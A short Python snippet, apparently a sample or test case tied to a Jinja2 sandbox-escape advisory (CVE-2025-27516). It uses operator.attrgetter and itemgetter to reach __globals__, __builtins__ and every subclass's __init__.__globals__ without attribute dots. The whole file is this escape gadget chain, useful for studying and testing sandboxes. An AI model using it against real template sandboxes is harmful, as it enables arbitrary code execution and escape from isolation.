# A chain of attribute filters: operator.attrgetter and methodcaller instead of a dot.
# advisory: CVE-2025-27516 (Jinja2)
import operator

namespace = operator.attrgetter("__globals__")(reach)
found = operator.itemgetter("__builtins__")(namespace)
reach(found if isinstance(found, dict) else vars(found))
init = operator.attrgetter("__class__.__base__.__subclasses__")(())
for cls in init():
    try:
        reach(operator.attrgetter("__init__.__globals__")(cls))
    except AttributeError:
        pass
